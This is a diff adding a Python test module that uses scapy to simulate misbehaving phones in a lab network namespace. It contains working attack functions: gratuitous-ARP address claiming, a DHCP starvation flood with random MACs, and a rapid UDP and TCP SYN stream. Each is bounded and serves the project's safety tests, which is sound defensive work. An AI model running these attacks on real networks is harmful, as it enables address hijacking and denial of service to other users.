@@ -1,0 +1,166 @@
+"""Phones that misbehave, for the safety tests: frames built, sent and matched with scapy,
+from inside a lab namespace (``ip netns exec NS python -m tests.netlab.attacks ...``, or
+:func:`run`). Each attack prints one JSON line saying what it did and saw.
+
+- ``garp``: claim an address with gratuitous ARP (a reply and a request, as address
+  thieves send them), from any MAC.
+- ``dhcp-flood``: DISCOVER with random MACs and REQUEST every address offered, as a
+  pool-starving radio does, for a bounded time.
+- ``stream``: UDP datagrams and TCP SYNs to one address and port, every few
+  milliseconds, for a bounded time (what a phone trying to get out sends).
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import random
+import subprocess
+import sys
+import time
+from pathlib import Path
+from typing import Any
+
+ROOT = Path(__file__).resolve().parents[2]
+BROADCAST = "ff:ff:ff:ff:ff:ff"
+
+
+def run(lab: Any, ns: str, *args: str, timeout: float = 60) -> dict[str, Any]:
+    """Run an attack in ``ns``; what it printed."""
+    res = lab.sh(ns, [*_python(), *args], timeout=timeout, check=False)
+    if res.returncode != 0:
+        raise RuntimeError(f"attack {args[0]} failed: {res.stderr.decode(errors='replace')}")
+    result: dict[str, Any] = json.loads(res.stdout.decode().strip().splitlines()[-1])
+    return result
+
+
+def spawn(lab: Any, ns: str, *args: str) -> subprocess.Popen[bytes]:
+    """Start an attack in ``ns`` in the background (the lab stops it at the end)."""
+    return lab.spawn(  # type: ignore[no-any-return]
+        ns, [*_python(), *args], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
+    )
+
+
+def _python() -> list[str]:
+    return ["env", f"PYTHONPATH={ROOT}", sys.executable, "-m", "tests.netlab.attacks"]
+
+
+def random_mac(rng: random.Random) -> str:
+    """A locally administered unicast MAC, as phones randomise theirs."""
+    first = (rng.randrange(256) & 0xFC) | 0x02
+    return ":".join(f"{b:02x}" for b in (first, *(rng.randrange(256) for _ in range(5))))
+
+
+def garp(iface: str, ip: str, mac: str, count: int) -> dict[str, Any]:
+    from scapy.all import ARP, Ether, sendp
+
+    reply = Ether(src=mac, dst=BROADCAST) / ARP(
+        op="is-at", hwsrc=mac, psrc=ip, hwdst=BROADCAST, pdst=ip
+    )
+    request = Ether(src=mac, dst=BROADCAST) / ARP(op="who-has", hwsrc=mac, psrc=ip, pdst=ip)
+    sendp([reply, request] * count, iface=iface, verbose=False)
+    return {"sent": 2 * count}
+
+
+def dhcp_flood(iface: str, seconds: float, most: int, seed: int) -> dict[str, Any]:
+    from scapy.all import BOOTP, DHCP, IP, UDP, AsyncSniffer, Ether, conf, mac2str
+
+    rng = random.Random(seed)
+    clients: dict[int, str] = {}  # xid -> MAC
+    acked: set[str] = set()
+    out = conf.L2socket(iface=iface)
+
+    def frame(mac: str, xid: int, options: list[Any]) -> Any:
+        return (
+            Ether(src=mac, dst=BROADCAST)
+            / IP(src="0.0.0.0", dst="255.255.255.255")
+            / UDP(sport=68, dport=67)
+            / BOOTP(chaddr=mac2str(mac), xid=xid, flags=0x8000)
+            / DHCP(options=[*options, "end"])
+        )
+
+    def answer(reply: Any) -> None:
+        bootp = reply[BOOTP]
+        mac = clients.get(bootp.xid)
+        options = dict(o[:2] for o in reply[DHCP].options if isinstance(o, tuple))
+        if mac is None:
+            return
+        if options.get("message-type") == 5:  # ACK
+            acked.add(mac)
+        elif options.get("message-type") == 2:  # OFFER: take it
+            request = [
+                ("message-type", "request"),
+                ("requested_addr", bootp.yiaddr),
+                ("server_id", options.get("server_id")),
+            ]
+            out.send(frame(mac, bootp.xid, request))
+
+    sniffer = AsyncSniffer(
+        iface=iface,
+        lfilter=lambda p: UDP in p and p[UDP].dport == 68 and DHCP in p,
+        prn=answer,
+        store=False,
+    )
+    sniffer.start()
+    time.sleep(0.5)
+    sent, end = 0, time.monotonic() + seconds
+    try:
+        while time.monotonic() < end and sent < most:  # bounded by time and by count
+            mac, xid = random_mac(rng), rng.randrange(1, 2**32)
+            clients[xid] = mac
+            out.send(frame(mac, xid, [("message-type", "discover")]))
+            sent += 1
+        time.sleep(2)  # the last offers and acks
+    finally:
+        sniffer.stop()
+        out.close()
+    return {"discovers": sent, "leases": len(acked)}
+
+
+def stream(dst: str, port: int, seconds: float, every: float) -> dict[str, Any]:
+    """UDP and TCP SYNs to ``dst``:``port`` from this namespace's own address."""
+    from scapy.all import IP, TCP, UDP, conf
+
+    sock = conf.L3socket()
+    sent, end = 0, time.monotonic() + seconds
+    try:
+        while time.monotonic() < end:  # bounded by time
+            sock.send(IP(dst=dst) / UDP(sport=40000 + sent % 1000, dport=port) / b"out")
+            sock.send(IP(dst=dst) / TCP(sport=41000 + sent % 1000, dport=port, flags="S"))
+            sent += 2
+            time.sleep(every)
+    finally:
+        sock.close()
+    return {"sent": sent}
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(prog="python -m tests.netlab.attacks")
+    sub = parser.add_subparsers(dest="attack", required=True)
+    p = sub.add_parser("garp")
+    p.add_argument("--iface", default="eth0")
+    p.add_argument("--ip", required=True)
+    p.add_argument("--mac", required=True)
+    p.add_argument("--count", type=int, default=3)
+    p = sub.add_parser("dhcp-flood")
+    p.add_argument("--iface", default="eth0")
+    p.add_argument("--seconds", type=float, default=5)
+    p.add_argument("--most", type=int, default=5000)
+    p.add_argument("--seed", type=int, default=1)
+    p = sub.add_parser("stream")
+    p.add_argument("--dst", required=True)
+    p.add_argument("--port", type=int, required=True)
+    p.add_argument("--seconds", type=float, default=5)
+    p.add_argument("--every", type=float, default=0.005)
+    args = parser.parse_args()
+    if args.attack == "garp":
+        out = garp(args.iface, args.ip, args.mac, args.count)
+    elif args.attack == "dhcp-flood":
+        out = dhcp_flood(args.iface, args.seconds, args.most, args.seed)
+    else:
+        out = stream(args.dst, args.port, args.seconds, args.every)
+    print(json.dumps(out), flush=True)
+
+
+if __name__ == "__main__":
+    main()
